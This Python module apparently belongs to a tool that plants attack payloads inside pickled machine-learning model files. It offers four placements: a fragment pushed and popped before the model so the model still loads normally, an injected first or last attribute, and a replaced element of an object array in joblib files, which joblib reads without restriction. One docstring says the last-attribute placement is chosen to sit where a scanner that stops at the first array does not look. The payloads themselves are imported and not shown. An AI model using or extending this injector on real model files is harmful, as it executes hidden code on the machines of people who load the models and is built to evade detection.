"""Where in a model's stream an attack is put, each place a function from the stream to a stream with the attack in it."""

from dataclasses import replace
from typing import Callable, Dict, List, Optional, Sequence

from payloads import Payload
from pickle_assembler import assemble
from pickle_parser import read_fragment
from pickle_parts import MEMO_GET, MEMO_PUT, Mapping, Nested, Op, Part, Stream

PLAIN_KEY = "cache_"
POP = Op("POP", b"0")
SETITEM = Op("SETITEM", b"s")


class NoPlace(Exception):
    """This model has no such place, or this payload makes no sense there."""


def insert(stream: Stream, at: int, parts: Sequence[Part]) -> Stream:
    return replace(stream, parts=[*stream.parts[:at], *parts, *stream.parts[at:]])


def fragment_of(payload: Payload, stream: Stream) -> List[Op]:
    return read_fragment(payload.fragment(stream.protocol), space=1)


def second_pickle(stream: Stream, payload: Payload) -> bytes:
    """A pickle of its own, of the same protocol as the model's."""
    head = b"\x80" + bytes([stream.protocol]) if stream.protocol >= 2 else b""
    return head + payload.fragment(stream.protocol) + b"."


def start_of(stream: Stream) -> int:
    """After PROTO, where there is one."""
    return 1 if name_of(stream.parts[0]) == "PROTO" else 0


def name_of(part: Part) -> str:
    return part.name if isinstance(part, Op) else ""


def memo_of(part: Part) -> Optional[int]:
    return part.memo if isinstance(part, Op) else None


def at_front(stream: Stream, payload: Payload) -> Stream:
    """Pushed and popped before the model: the model is what it was."""
    return insert(stream, start_of(stream), fragment_of(payload, stream) + [POP])


def pair_of(payload: Payload, stream: Stream) -> List[Op]:
    key = assemble(payload.key or PLAIN_KEY, 4 if stream.protocol >= 4 else 2)
    return read_fragment(key, space=2) + fragment_of(payload, stream)


def root_state(stream: Stream) -> Mapping:
    states = getattr(stream.root, "states", None)
    if not states or not isinstance(states[-1], Mapping) or not states[-1].filled_at:
        raise NoPlace("the outermost object has no state")
    return states[-1]


def as_attribute(stream: Stream, payload: Payload) -> Stream:
    """The first attribute of the model."""
    at = root_state(stream).made_at + 1
    if name_of(stream.parts[at]) in MEMO_PUT:
        at += 1
    if name_of(stream.parts[at]) == "MARK":
        return insert(stream, at + 1, pair_of(payload, stream))
    return insert(stream, at, pair_of(payload, stream) + [SETITEM])


def at_end(stream: Stream, payload: Payload) -> Stream:
    """The last attribute of the model: behind the arrays, where a reader that gave up at the first array does not look."""
    at = root_state(stream).filled_at[-1]
    if name_of(stream.parts[at]) == "SETITEMS":
        return insert(stream, at, pair_of(payload, stream))
    return insert(stream, at + 1, pair_of(payload, stream) + [SETITEM])


def in_array(stream: Stream, payload: Payload) -> Stream:
    """An element of an array of objects: in joblib files that is a pickle of its own, which joblib reads without restriction."""
    for at, part in enumerate(stream.parts):
        changed = with_element(part.stream, payload) if isinstance(part, Nested) else None
        if changed:
            return replace(stream, parts=stream.parts[:at] + [Nested(changed)] + stream.parts[at + 1 :])
    changed = with_element(stream, payload)
    if not changed:
        raise NoPlace("the model has no array of objects")
    return changed


def with_element(stream: Stream, payload: Payload) -> Optional[Stream]:
    """The stream with one element of its first array of objects replaced by the payload."""
    for elements in stream.object_arrays:
        for first, last in elements.spans:
            if replaceable(stream, first, last):
                return replace(stream, parts=stream.parts[:first] + fragment_of(payload, stream) + stream.parts[last + 1 :])
    return None


def replaceable(stream: Stream, first: int, last: int) -> bool:
    """Whether nothing outside refers to what the operations first … last put into the memo."""
    put = {memo_of(part) for part in stream.parts[first : last + 1] if name_of(part) in MEMO_PUT}
    return not any(name_of(part) in MEMO_GET and memo_of(part) in put for part in stream.parts[last + 1 :])


PLACES: Dict[str, Callable[[Stream, Payload], Stream]] = {"front": at_front, "attribute": as_attribute, "nested": in_array, "end": at_end}
